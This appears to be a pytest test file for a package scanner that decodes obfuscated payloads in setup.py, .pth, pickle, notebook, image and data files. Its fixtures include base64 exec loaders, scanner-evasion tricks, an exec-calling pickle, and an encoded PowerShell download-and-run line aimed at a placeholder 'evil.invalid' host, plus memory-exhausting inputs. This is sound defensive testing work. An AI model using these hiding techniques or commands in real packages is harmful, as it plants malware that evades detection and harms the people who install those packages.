# ruff: noqa: E501 - programs as they are written
"""What peels, through peel itself: packers, probes that defeat other scanners, files that carry code beside data."""

import base64
import bz2
import gzip
import io
import json
import marshal
import pickle
import random
import struct
import sys
import tarfile
import time
import zlib
from collections.abc import Callable

import pytest

from scanner.decode import PeelBudget, peel, pickle_reader, run, steps
from scanner.member import Layer, Member, MemberKind
from scanner.report import Anomaly, Scope
from tests.scanner.decode.packers import MARK, PACKERS, PAYLOAD, lambda_zlib, many_layers

CODE = PAYLOAD.encode()
B64 = base64.b64encode(CODE)


def layers_of(data: bytes | str, name: str = "pkg/mod.py", budget: PeelBudget | None = None) -> list[Layer]:
    raw = data.encode() if isinstance(data, str) else data
    return [item for item in peel(Member(name=name, data=raw), budget or PeelBudget()) if isinstance(item, Layer)]


def anomalies_of(data: bytes, name: str = "pkg/mod.py", budget: PeelBudget | None = None) -> list[str]:
    found = peel(Member(name=name, data=data), budget or PeelBudget())
    return [item.kind for item in found if isinstance(item, Anomaly)]


def decoded(data: bytes | str, name: str = "pkg/mod.py") -> bytes:
    return b"\n".join(layer.data for layer in layers_of(data, name)[1:])


@pytest.mark.parametrize("shape", PACKERS)
def test_a_packed_payload_peels_to_readable_text(shape: str) -> None:
    source = PACKERS[shape](PAYLOAD)
    assert MARK not in source.encode()
    found = layers_of("import os\n\n" + source)
    readable = [layer for layer in found if layer.path and MARK in layer.data]
    assert readable, [(layer.path, layer.data[:200]) for layer in found]
    assert found[0].path == ()


@pytest.mark.parametrize("shape", [name for name in PACKERS if "marshal" not in name])
def test_what_is_executed_is_code_to_the_rules(shape: str) -> None:
    assert any(layer.is_code and layer.data.strip() == CODE.strip() for layer in layers_of(PACKERS[shape](PAYLOAD)))


def test_fifty_packings_one_inside_the_other_peel_to_the_end_with_their_path() -> None:
    innermost = max(layers_of(many_layers(PAYLOAD)), key=lambda layer: len(layer.path))
    assert innermost.data == CODE
    assert innermost.path == ("reverse", "base64", "zlib") * 50


def test_the_path_has_one_word_a_step_and_the_line_is_that_of_the_literal() -> None:
    packed = base64.b64encode(zlib.compress(CODE)).decode()
    found = layers_of(f"import base64, zlib\n\n\nexec(zlib.decompress(base64.b64decode('{packed}')))\n")
    inner = next(layer for layer in found if layer.data == CODE)
    assert (inner.path, inner.origin_line, inner.is_code) == (("base64", "zlib"), 4, True)
    assert inner.line_at(10) == 4


# The probes of other scanners' weak points, one behaviour each.
EXEC_B64 = b"import base64\nexec(base64.b64decode('%s'))\n" % B64


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("setup.py", EXEC_B64),
        ("setup.py", b'# a stray """ in a comment\n' + EXEC_B64),
        ("setup.py", b'x = """\n' + EXEC_B64 + b'"""\nexec(x)\n'),
        ("setup.py", b"import base64\ne = exec\ne(base64.b64decode('%s'))\n" % B64),
        ("setup.py", b"import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('%s'))\n" % B64),
        ("x.pth", b"import base64; exec(base64.b64decode('%s'))\n" % B64),
        ("run.pyw", EXEC_B64),
        ("notes.txt", EXEC_B64),
        ("notes.txt", B64),
        ("data.json", json.dumps({"a": 1, "blob": B64.decode()}).encode()),
        ("setup.py", EXEC_B64.decode().encode("utf-16")),
        ("setup.py", b"# coding: utf-7\n" + EXEC_B64.decode().encode("utf-7")),
        ("setup.py", b"print 'python 2'\nimport base64\nexec base64.b64decode('%s')\n" % B64),
        ("setup.py", b"def broken(:\n  x = '%s'\n\x01\n" % B64),
        ("setup.py", b"def broken(:\n  exec(base64.b64decode('%s'))\n\x01\n" % B64),
    ],
)
def test_no_probe_hides_its_payload(name: str, data: bytes) -> None:
    assert MARK in decoded(data, name)


def test_what_is_written_otherwise_and_folded_has_the_lines_of_the_member() -> None:
    source = "import os as o\n\n\n" + "x = 1\n" * 40 + "o.system('cu' + 'rl ' + 'http://x.example.invalid')\n"
    by_path = {layer.path: layer for layer in layers_of(source)}
    for path in (("renamed",), ("renamed", "folded")):
        layer = by_path[path]
        assert layer.line_at(layer.data.index(b"os.system")) == 44


SLOW = "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n\n\n"
BUSY = {
    "before it": SLOW + "fib(24)\nEXEC\n",
    "before it, ten times": SLOW + "".join(f"x{number} = fib(24)\n" for number in range(10)) + "EXEC\n",
    "in a text that is put together": "s = ''\nfor i in range(100000):\n    s = str(i) + s[:9]\nEXEC\n",
    "in a condition": SLOW + "x = fib(24)\nif x == 46368:\n    EXEC\n",
    "in a function": SLOW + "def go():\n    fib(24)\n    EXEC\n\n\ngo()\n",
    "in a loop": SLOW + "for i in range(3):\n    fib(24)\n    EXEC\n",
    "a long chain of names": "x = a" + ".b" * 3000 + "\nEXEC\n",
    "a long chain of conditions": "if a:\n    pass\n" + "elif a == 1:\n    pass\n" * 3000 + "EXEC\n",
    "in a class": SLOW + "class A:\n    fib(24)\n    EXEC\n",
}


@pytest.mark.parametrize("source", BUSY.values(), ids=BUSY)
def test_what_waits_for_a_long_computation_is_peeled_all_the_same(source: str) -> None:
    program = "import base64\n" + source.replace("EXEC", f"exec(base64.b64decode({B64!r}))")
    assert MARK in decoded(program)
    # From 3.12 on no chain is too long for Python.
    if "go()" not in source and (SLOW in source or sys.version_info < (3, 12)):
        assert "peel-incomplete" in anomalies_of(program.encode())


def test_marshalled_code_gives_its_names_and_constants() -> None:
    code = zlib.compress(marshal.dumps(compile(PAYLOAD, "<x>", "exec")))
    found = layers_of(f"import marshal, zlib\nexec(marshal.loads(zlib.decompress({code!r})))")
    listing = next(layer for layer in found if layer.path == ("zlib", "marshal"))
    assert MARK in listing.data
    assert b"requests" in listing.data
    assert b"marshal.loads(" in found[0].data


def test_a_pyc_without_source_is_listed() -> None:
    body = marshal.dumps(compile(f"import base64\nexec(base64.b64decode({B64!r}))", "<x>", "exec"))
    found = layers_of(b"\xa7\r\r\n" + bytes(12) + body, "pkg/mod.pyc")
    assert found[1].path == ("pyc",)
    assert found[2].path == ("pyc", "base64")
    assert found[2].data == CODE


def test_a_pickle_gives_its_globals_and_strings() -> None:
    class Run:
        def __reduce__(self) -> tuple[object, ...]:
            return exec, (PAYLOAD,)

    text = decoded(pickle.dumps(Run()), "model.pkl")
    assert b"global builtins.exec" in text
    assert MARK in text
    assert b"global builtins.exec" in decoded(pickle.dumps(Run()), "pkg/weights.bin")


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def test_bytes_after_a_pictures_end_are_a_layer() -> None:
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) + chunk(b"IDAT", b"abc") + chunk(b"IEND", b"")
    assert layers_of(png, "logo.png")[1:] == []
    found = layers_of(png + B64, "logo.png")
    assert any(layer.path == ("appended", "base64") and layer.data == CODE for layer in found)


@pytest.mark.parametrize(
    "front", [b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), b"\xff\xd8\xff\xe0JFIF\xff\xd9", bytes(range(256))]
)
@pytest.mark.parametrize("kind", [tarfile.USTAR_FORMAT, tarfile.PAX_FORMAT, tarfile.GNU_FORMAT])
def test_a_tar_behind_anything_else_is_a_layer_to_open(front: bytes, kind: int) -> None:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=kind) as tar:
        entry = tarfile.TarInfo("run.py")
        entry.size = len(CODE)
        tar.addfile(entry, io.BytesIO(CODE))
    found = layers_of(front + out.getvalue(), "pkg/logo.bin")
    assert [(layer.path, layer.data) for layer in found[1:]] == [(("appended",), out.getvalue())]
    hidden = layers_of(front + out.getvalue() + b"\xff\xd9", "pkg/logo.bin")
    assert any(layer.data.startswith(out.getvalue()) for layer in hidden[1:])


def test_a_sound_whose_samples_are_text_is_decoded() -> None:
    wav = b"RIFF" + struct.pack("<I", 36 + len(B64)) + b"WAVEfmt " + struct.pack("<I", 16) + bytes(16)
    wav += b"data" + struct.pack("<I", len(B64)) + B64
    assert MARK in decoded(wav, "ring.wav")


def test_notebook_cells_are_code() -> None:
    cells = [
        {"cell_type": "markdown", "source": ["text"]},
        {
            "cell_type": "code",
            "source": ["%matplotlib inline\n", "import base64\n", f"exec(base64.b64decode({B64!r}))"],
        },
    ]
    found = layers_of(json.dumps({"cells": cells}), "demo.ipynb")
    assert found[1].path == ("notebook",)
    assert found[1].is_code
    (out,) = (layer for layer in found if layer.path == ("notebook", "base64") and layer.data == CODE)
    assert out.line_of(1) == 1  # of the document as stored, not of its joined cells


def test_an_encoded_powershell_command_is_read() -> None:
    command = base64.b64encode(
        "Invoke-WebRequest https://evil.invalid/collect -OutFile x; Start-Process x".encode("utf-16-le")
    )
    found = layers_of(b"powershell -w hidden -enc " + command, "run.bat")
    assert found[1].path == ("base64", "utf-16")
    assert MARK in found[1].data


def test_what_a_child_interpreter_would_run_is_peeled() -> None:
    source = (
        (
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', 'import base64;exec(base64.b64decode({B64.decode()!r}))'.replace('!', ''),])\n"
        )
        .replace("b64decode('", "b64decode(\\'")
        .replace("'))'", "\\'))'")
    )
    assert MARK in decoded(source, "litellm.pth.py")


def test_native_code_and_archives_inside_literals_are_layers() -> None:
    elf = b"\x7fELF" + bytes(200)
    found = layers_of(f"import base64\nopen('x', 'wb').write(base64.b64decode({base64.b64encode(elf)!r}))")
    assert any(layer.data == elf for layer in found)


def test_payload_in_a_comment_is_decoded_where_it_stands() -> None:
    found = layers_of(b"x = 1\n# " + B64 + b"\n")
    assert [(layer.path, layer.origin_line) for layer in found[1:]] == [(("base64",), 2)]


def test_ordinary_code_gives_its_own_layer_only() -> None:
    source = b"import os\n\n\ndef main(argv):\n    return [os.path.join(a, 'x') for a in argv]\n" * 50
    member = Member(name="pkg/mod.py", data=source)
    found = list(peel(member, PeelBudget()))
    assert len(found) == 1
    assert isinstance(found[0], Layer)
    assert found[0].data is source


def test_digests_keys_and_pictures_in_text_are_no_payload() -> None:
    digest = "ab12" * 32
    font = base64.b64encode(bytes((i * 7919) % 251 for i in range(3000))).decode()
    assert layers_of(f"HASH = '{digest}'\nFONT = '{font}'\n")[1:] == []
    assert layers_of(f"{font}\n{digest}\n", "data.txt")[1:] == []


def test_links_and_devices_are_not_peeled() -> None:
    member = Member(name="a.py", data=lambda_zlib(PAYLOAD).encode(), kind=MemberKind.LINK)
    assert len(list(peel(member, PeelBudget()))) == 1


@pytest.mark.parametrize("cookie", [b"base64", b"utf-16-le", b"rot13", b"punycode", b"cp037"])
@pytest.mark.parametrize(
    "name", ["pkg-1.0/setup.py", "evil.pth", "pkg-1.0.data/scripts/tool", "pkg-1.0/pyproject.toml"]
)
def test_a_cookie_hides_nothing_that_stands_there_as_it_is(cookie: bytes, name: str) -> None:
    for head in (b"", b"import os\n", b"#\n"):
        source = head + b"# coding: " + cookie + b"\nimport os; os.system('id')\n"
        assert layers_of(source, name)[0].data == source


def test_a_text_that_its_cookie_turns_into_another_is_peeled_as_both() -> None:
    hidden = b"# coding: utf-7\nexec('payload_%d' % 1)  # +" + base64.b64encode(
        "\nexec('payload_%d' % 2)\n".encode("utf-16-be")
    ).rstrip(b"=")
    found = layers_of(hidden + b"-\n")
    assert [layer.path for layer in found[:2]] == [(), ("utf-7",)]
    assert {b"payload_1", b"payload_2"} <= {layer.data for layer in found}
    honest = "# coding: latin-1\nname = 'Zoë'\n".encode("latin-1")
    assert [layer.path for layer in layers_of(honest)] == [("iso8859-1",)]


LOADER = b"import base64; exec(base64.b64decode('%s'))" % B64


@pytest.mark.parametrize("end", [b"\n", b"\r", b"\r\n", b"\x0b", b"\x0c", b"\x1c", b"\xc2\x85", b"\xe2\x80\xa8"])
@pytest.mark.parametrize("before", [b"./lib", b"# import os", b"import os", b"\xef\xbb\xbf"])
def test_a_start_up_file_runs_the_lines_that_some_python_takes_for_lines(before: bytes, end: bytes) -> None:
    assert MARK in decoded(before + (b"" if before == b"\xef\xbb\xbf" else end) + LOADER + end, "evil.pth")


def test_what_only_some_pythons_end_a_line_at_runs_on_in_the_others() -> None:
    assert MARK in decoded(
        b"import os; x = '\x0c\xe2\x80\xa8'; " + LOADER[7:].replace(b"base64;", b"import base64;", 1), "evil.pth"
    )


def test_a_line_of_a_start_up_file_has_its_number() -> None:
    assert {layer.origin_line for layer in layers_of(b"./lib\n\n" + LOADER, "evil.pth")[1:]} >= {3}


def test_a_start_up_file_of_very_many_lines_is_read_in_time() -> None:
    started = time.process_time()
    assert MARK in decoded(b"\n" * (16 << 20) + LOADER, "evil.pth")
    layers_of(b"import \n" * (2 << 20), "evil.pth")
    assert time.process_time() - started < 10


def test_layers_keep_the_scope_of_their_member() -> None:
    assert {layer.scope for layer in layers_of(EXEC_B64, "pkg-1.0/setup.py")} == {Scope.SETUP}


class TestBudgets:
    def test_output_stops_at_its_limit_and_says_so(self) -> None:
        bomb = base64.b64encode(zlib.compress(b"import os\n" * 4_000_000))
        source = b"import base64, zlib\nexec(zlib.decompress(base64.b64decode('%s')))" % bomb
        assert "peel-bytes" in anomalies_of(source, budget=PeelBudget(bytes=1_000_000))

    def test_too_many_layers_are_named(self) -> None:
        texts = [base64.b64encode(CODE + str(i).encode()).decode() for i in range(20)]
        source = "import base64\n" + "".join(f"exec(base64.b64decode('{text}'))\n" for text in texts)
        assert "peel-layers" in anomalies_of(source.encode(), budget=PeelBudget(layers=5))

    def test_depth_is_bounded(self) -> None:
        source = many_layers(PAYLOAD, 12).encode()
        kinds = anomalies_of(source, budget=PeelBudget(depth=9))
        assert "peel-depth" in kinds

    def test_a_loop_without_end_ends(self) -> None:
        source = b"import base64\nx = base64.b64decode('aGVsbG8gd29ybGQ=')\nwhile True:\n    x += x[:1]\nexec(x)\n"
        budget = PeelBudget(steps=20_000)
        assert layers_of(source, budget=budget)

    def test_time_is_shared_between_members(self) -> None:
        clock = iter(range(10_000_000))
        budget = PeelBudget(seconds=50, now=lambda: float(next(clock)))
        kinds = [anomalies_of(EXEC_B64, budget=budget) for _ in range(60)]
        assert ["peel-time"] in kinds
        assert kinds[-1] == []  # nothing is tried any more


HOSTILE = [
    b"exec('a' * 10**12)",
    b"exec('%0999999999d' % 1)",
    b"exec(f'{1:>9999999999}')",
    b"exec('{:>9999999999}'.format(1))",
    b"exec(str(7 ** 7 ** 7 ** 7))",
    b"exec(bytes(1 << 40))",
    b"exec([0] * (1 << 40))",
    b"exec('x'.zfill(10 ** 12))",
    b"exec(''.join(['a' * 1000000] * 1000000))",
    b"exec('a'.replace('a', 'a' * 10 ** 7).replace('a', 'a' * 10 ** 7))",
    b"x = []\nx.append(x)\nexec(x)\nexec(str(x))",
    b"def f(n):\n    return f(n + 1) + f(n + 2)\nexec(f(1))",
    b"f = lambda: f()\nexec(f())",
    b"exec(eval('eval(' * 500 + ')' * 500))",
    b"exec(" + b"(" * 5000 + b")" * 5000 + b")",
    b"exec(" + b"-" * 20000 + b"1)",
    b"exec(" + b"+".join([b"chr(97)"] * 20000) + b")",
    b"exec(" + b"[" * 300 + b"]" * 300 + b")",
    b"a = 'exec(a)'\nexec(a)",
    b"a = 'exec(a + a)'\nexec(a)",
    b"exec(__import__('struct').pack('999999999x'))",
    b"exec(int('9' * 10**6))",
    b"for i in range(10**18):\n    exec(chr(i))",
    b"while 1:\n    exec(eval('1'))",
    b"exec(list(range(10**12)))",
    b"exec(sum([[1]] * 100000, []))",
    b"import hashlib\nexec(hashlib.pbkdf2_hmac('sha256', b'a', b'b', 10**12))",
    b"x" * 300_000 + b" = exec(a)\n" + b"\n" * 100_000,
    b"exec('" + b"\\x41" * 200_000,
    b'"""' * 20_000 + b"exec(",
    b"\x00" * 5000 + b"exec(",
    b"# coding: zlib\nexec(1)",
    b"# coding: \xff\nexec(1)",
    b"# coding: idna\nexec(1)",
    b"\xff\xfe\x00",
    b"c\0\0\0",
]


@pytest.mark.parametrize("data", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("name", ["a.py", "a.pth", "a.txt", "a.ipynb", "a.pkl", "a.png"])
def test_hostile_input_neither_raises_nor_hangs(name: str, data: bytes) -> None:
    budget = PeelBudget(member_seconds=0.5)
    assert "peel-fault" not in anomalies_of(data, name, budget)


def hidden_program(lines: str) -> bytes:
    return b"import base64\nexec(base64.b64decode('%s'))\n" % base64.b64encode(lines.encode())


def test_a_long_decoded_program_that_hides_nothing_is_given_as_it_is() -> None:
    plain = "import os\n" + "print('a line of a program that hides nothing', os.getcwd())\n" * 200
    assert [layer.path for layer in layers_of(hidden_program(plain + "name = 'one ' + 'two'\n"))[1:]] == [
        ("base64",),
        ("folded",),
    ]


def test_a_long_decoded_program_that_runs_what_it_decodes_is_peeled_further() -> None:
    inner = base64.b64encode(b"import os; print('the innermost text', os.name)").decode()
    padding = "print('a line that says nothing at all')\n" * 300
    found = layers_of(hidden_program(f"{padding}import base64\nexec(base64.b64decode('{inner}'))\n"))
    assert ("base64", "base64") in [layer.path for layer in found]


@pytest.mark.parametrize("step", ["reverse", "rot13"])
def test_a_data_file_that_holds_mirrored_source_peels_to_code(step: str) -> None:
    found = layers_of(steps.DECODERS[step](CODE), "pkg/strings.txt")
    assert any(layer.is_code and layer.data.strip() == CODE.strip() and layer.path == (step,) for layer in found)


NOISE = [base64.b64encode(random.Random(number).randbytes(99)) for number in range(300)]
FILLER = b"# a line that says nothing\n" * 3_000
OUT_OF_SIGHT = {
    "three hundred encoded texts": b"some words\n" + b"\n".join(NOISE) + b"\n" + B64,
    "blank lines": base64.b64encode(b"\n" * 5_000 + CODE),
    "many lines that say nothing": base64.b64encode(FILLER + CODE),
    "one character": b"x" + B64,
    "two characters in a table": b'{"a name": "xy' + B64 + b'"}',
    "a heading, in lines": b"a heading\n" + base64.encodebytes(CODE * 3),
    "a picture's first bytes": b"\x89PNG\r\n\x1a\n" + B64,
    "a font's first bytes": b"wOF2" + B64,
    "an archive's first bytes": b"PK\3\4 " + B64,
    "a pickle": pickle.dumps(None) + B64,
    "a compressed stream": zlib.compress(random.Random(1).randbytes(99)) + B64,
    "compressed streams, and zeros": zlib.compress(b"nothing\n") * 300 + bytes(9) + zlib.compress(CODE),
    "a member of its own": gzip.compress(b"# nothing\n") + gzip.compress(CODE),
    "a stream of its own": bz2.compress(b"# nothing\n") + bz2.compress(CODE),
    "a compiled module": b"\x55\x0d\r\n" + b"\0" * 12 + marshal.dumps(compile("pass", "", "exec")) + B64,
    "a notebook's cells": json.dumps(
        {"cells": [{"cell_type": "code", "source": "1"}, {"cell_type": "raw", "source": B64.decode()}]}
    ).encode(),
}


@pytest.mark.parametrize("front", OUT_OF_SIGHT)
def test_nothing_in_front_of_a_payload_hides_it(front: str) -> None:
    for name in ("pkg/data.bin", "pkg/data.ipynb"):
        assert MARK in decoded(OUT_OF_SIGHT[front], name), name


def test_a_line_of_a_start_up_file_that_does_not_run_is_decoded_all_the_same() -> None:
    assert MARK in decoded(b"import os; os.getcwd()\n# " + B64 + b"\n", "start.pth")


def test_literals_that_say_nothing_hide_none_that_stands_behind_them() -> None:
    names = b"".join(b"A%d = '%s'\n" % pair for pair in enumerate(NOISE))
    assert MARK in decoded(names + b"B = '" + B64 + b"'\n")
    lines = b"B = '''\n" + base64.encodebytes(CODE) + b"'''\n"
    assert MARK in decoded(lines)


def test_a_pickle_behind_another_is_read() -> None:
    found = layers_of(pickle.dumps(["first"]) + pickle.dumps([print]), "pkg/data.bin")
    assert any(b"builtins.print" in layer.data for layer in found if layer.path)


def test_a_pickle_is_read_to_its_end_or_told_of(monkeypatch: pytest.MonkeyPatch) -> None:
    long = pickle.dumps([*range(60_000), print])
    assert b"builtins.print" in decoded(long, "model.pkl")
    assert anomalies_of(long, "model.pkl") == []
    monkeypatch.setattr(pickle_reader, "MAX_OPCODES", 50_000)
    assert anomalies_of(long, "model.pkl") == ["peel-incomplete"]


@pytest.mark.parametrize("seed", range(40))
def test_a_compressed_file_is_decompressed_whatever_its_first_bytes_are(seed: int) -> None:
    noise = base64.b85encode(random.Random(seed).randbytes(200))
    assert MARK in decoded(zlib.compress(b"# " + noise + b"\n" + CODE), "pkg/data.bin")


PACKED = zlib.compress(random.Random(2).randbytes(300).hex().encode() + b"\n" + CODE)
QUOTED = {
    "a list": json.dumps,
    "a list, one a line": lambda lines: json.dumps({"name": "a name", "data": lines}, indent=2),
    "an object": lambda lines: json.dumps({f"k{n}": line for n, line in enumerate(lines)}, indent=1),
    "one text with its line ends": lambda lines: json.dumps({"a name": "\n".join(lines)}),
    "one text": lambda lines: json.dumps({"a name": "".join(lines)}),
    "Python's list": lambda lines: "LINES = [\n" + "".join(f"    {line.encode()!r},\n" for line in lines) + "]\n",
    "literals side by side": lambda lines: (
        "text = (\n" + "".join(f"    {line + chr(10)!r}\n" for line in lines) + ")\n"
    ),
    "a sum": lambda lines: "var text = " + " +\n  ".join(f'"{line}"' for line in lines) + ";",
    "a block's list": lambda lines: "text:\n" + "".join(f'  - "{line}"\n' for line in lines),
    "a table": lambda lines: "".join(f'line{n} = "{line}"\n' for n, line in enumerate(lines)),
}


@pytest.mark.parametrize("encode", [base64.b64encode, base64.b85encode])
@pytest.mark.parametrize("written", QUOTED.values(), ids=list(QUOTED))
def test_encoded_text_in_quoted_lines_of_a_data_file_is_decoded(
    written: Callable[[list[str]], str], encode: Callable[[bytes], bytes]
) -> None:
    text = encode(PACKED).decode()
    lines = [text[at : at + 76] for at in range(0, len(text), 76)]
    assert MARK in decoded(written(lines), "pkg/data.json")


def test_more_encoded_texts_than_are_tried_are_told_of(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(run, "MOST_TRIED", 100)
    assert "peel-incomplete" in anomalies_of(b"some words\n" + b"\n".join(NOISE), "pkg/data.txt")


def test_what_does_not_parse_hides_nothing_behind_literals_that_decode_to_something() -> None:
    texts = [base64.b64encode(b"import os  # a text that says nothing, %d" % number) for number in range(200)]
    lines = [b"A = = '%s'" % text for text in [*texts, base64.b85encode(CODE)]]
    assert MARK in decoded(b"\n".join([*lines, b"exec(A"]))
